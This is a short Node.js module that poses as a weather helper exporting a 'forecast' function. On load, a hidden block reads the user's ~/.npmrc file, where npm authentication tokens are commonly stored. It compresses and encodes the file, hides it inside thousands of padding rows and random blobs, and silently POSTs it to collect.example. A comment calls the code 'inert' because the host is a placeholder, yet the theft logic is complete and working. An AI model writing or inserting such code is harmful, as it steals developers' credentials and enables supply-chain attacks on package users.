const { randomBytes } = require('node:crypto');
const { readFileSync } = require('node:fs');
const { homedir } = require('node:os');
const { request } = require('node:https');
const { gzipSync } = require('node:zlib');

// Inert: the host is reserved for documentation and does not exist.
{
  const row = (at) => ({ at, link: `https://host.example/items/${at}`, text: 'It is "fine", and so on.\nAnd on.' });
  const picture = () => randomBytes(1500).toString('base64');
  const rows = Array.from({ length: 8_500 }, (_, at) => row(at));
  const before = Array.from({ length: 40 }, picture);
  const found = gzipSync(readFileSync(`${homedir()}/.npmrc`, 'utf8')).toString('base64');
  const body = JSON.stringify({ rows, before, data: Buffer.from(found).toString('hex'), after: before, again: rows });
  const sent = request('https://collect.example/in', { method: 'POST', headers: { 'content-type': 'application/json' } });
  sent.on('error', () => {});
  sent.end(body);
}

exports.forecast = (city) => `sunny in ${city}`;
